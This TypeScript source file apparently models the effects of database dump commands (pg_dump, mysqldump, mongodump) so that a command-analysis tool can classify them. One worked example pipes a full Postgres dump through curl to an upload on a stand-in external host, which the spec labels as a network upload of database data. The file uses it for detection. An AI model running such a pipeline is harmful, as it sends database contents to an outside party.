/** Programs that dump databases. */
import type { EffectDraft } from '../../../../effects/effect';
import type { Call, ProgramSpec } from '../../program';
import { writes } from '../../stating';
import { connectionOf } from './connection';
import { mysqlConnection } from './mysql';
import { postgresConnection, postgresOptions } from './postgres';

export const dumpOptions =
  '-f,--file=FILE -t,--table=T -T,--exclude-table=T -n,--schema=S -N,--exclude-schema=S -F,--format=F -j,--jobs=N -Z,--compress=N -a,--data-only -s,--schema-only -c,--clean -C,--create -O,--no-owner -x,--no-privileges -b -B -v -E=E --role=R --if-exists --inserts --column-inserts -g,--globals-only -r,--roles-only -l=D';

function exportTo(call: Call): 'file' | 'stdout' {
  return call.words('-o', '--result-file', '--tab').length > 0 ? 'file' : 'stdout';
}

export const pgDump: ProgramSpec = {
  names: 'pg_dump pg_dumpall pg_basebackup',
  options: `${postgresOptions} ${dumpOptions} -D,--pgdata=D`,
  does(call) {
    const { evidence } = postgresConnection(call);
    const written = call.words('-f', '-D');
    const rows = call.has('-s', '-g') === true ? { rows: 0 } : {};
    const tables = call.words('-t').map((word) => word.value);
    const exports = (tables.length > 0 ? tables : [null]).map(
      (table): EffectDraft => ({
        kind: 'db.export',
        engine: 'postgres',
        table,
        to: written.length > 0 ? 'file' : 'stdout',
        ...rows,
        evidence,
      }),
    );
    return { effects: [...exports, ...writes(call, written, 'overwrite')], output: { text: null, sources: ['db'] } };
  },
  examples: {
    yields: {
      'pg_dump -t users shop': 'db.export{table=users,to=stdout}',
      'pg_dump -Fc -f d.dump shop': 'db.export{to=file} + fs.write',
      'pg_dump --schema-only -h db1 shop': 'db.export{rows=0,to=stdout}',
      'pg_dump shop | curl -T - https://x.test/d':
        'db.export{to=stdout} + net.upload{source=db,host=x.test} + net.fetch',
    },
    inert: ['pg_dump --version'],
  },
};

export const mysqldump: ProgramSpec = {
  names: 'mysqldump mariadb-dump mysqlpump mydumper',
  options:
    '-h,--host=H -P=P -u,--user=U -p,--password[=PW] -r,--result-file=FILE -d,--no-data -A,--all-databases -B,--databases --tables -w,--where=W -S=S --ignore-table=T --single-transaction --routines --triggers -t -q -T,--tab=D -o,--outputdir=D -c -e -n --set-gtid-purged=M --column-statistics=N -V,--version',
  inertWith: ['-V'],
  does(call) {
    const { evidence } = mysqlConnection(call);
    const tables = call.has('-A', '-B') === true ? [] : call.operands.slice(1).map((word) => word.value);
    const rows = call.name !== 'mydumper' && call.has('-d') === true ? { rows: 0 } : {};
    const exports = (tables.length > 0 ? tables : [null]).map(
      (table): EffectDraft => ({ kind: 'db.export', engine: 'mysql', table, to: exportTo(call), ...rows, evidence }),
    );
    return {
      effects: [...exports, ...writes(call, call.words('-r', '-T', '-o'), 'overwrite')],
      output: { text: null, sources: ['db'] },
    };
  },
  examples: {
    yields: {
      'mysqldump -u root shop orders': 'db.export{table=orders,to=stdout}',
      'mysqldump -h db1 --all-databases --result-file=all.sql': 'db.export{to=file} + fs.write',
      'mysqldump --no-data shop': 'db.export{rows=0}',
    },
    inert: ['mysqldump -V'],
  },
};

export const mongoDump: ProgramSpec = {
  names: 'mongodump mongoexport',
  options:
    '--uri=U -h,--host=H -d,--db=D -c,--collection=C -o,--out=F -q,--query=Q -f=F --type=T --archive[=F] --gzip -u=U -p=P --port=P',
  does(call) {
    const { evidence } = connectionOf(call, {
      engine: 'mongo',
      dialect: 'unknown',
      host: ['-h'],
      database: ['-d'],
      url: ['--uri'],
      localByDefault: true,
    });
    const files = [...call.words('-o'), ...call.words('--archive')].filter(({ value }) => value !== '-');
    const streams = call.name === 'mongoexport' ? files.length === 0 : call.has('--archive') && files.length === 0;
    const stdout = streams || call.words('-o').some(({ value }) => value === '-');
    return {
      effects: [
        {
          kind: 'db.export',
          engine: 'mongo',
          table: call.value('-c') ?? null,
          to: stdout ? 'stdout' : 'file',
          evidence,
        },
        ...writes(call, files, 'overwrite'),
      ],
      output: { text: null, sources: ['db'] },
    };
  },
  examples: {
    yields: {
      'mongoexport -d shop -c users -o u.json': 'db.export{table=users,to=file} + fs.write',
      'mongodump --uri mongodb://db1/shop --archive=shop.gz --gzip':
        'db.export{to=file} + fs.write{path=/repo/shop.gz}',
      'mongodump -d shop --archive': 'db.export{to=stdout}',
    },
    inert: ['mongodump --version'],
  },
};
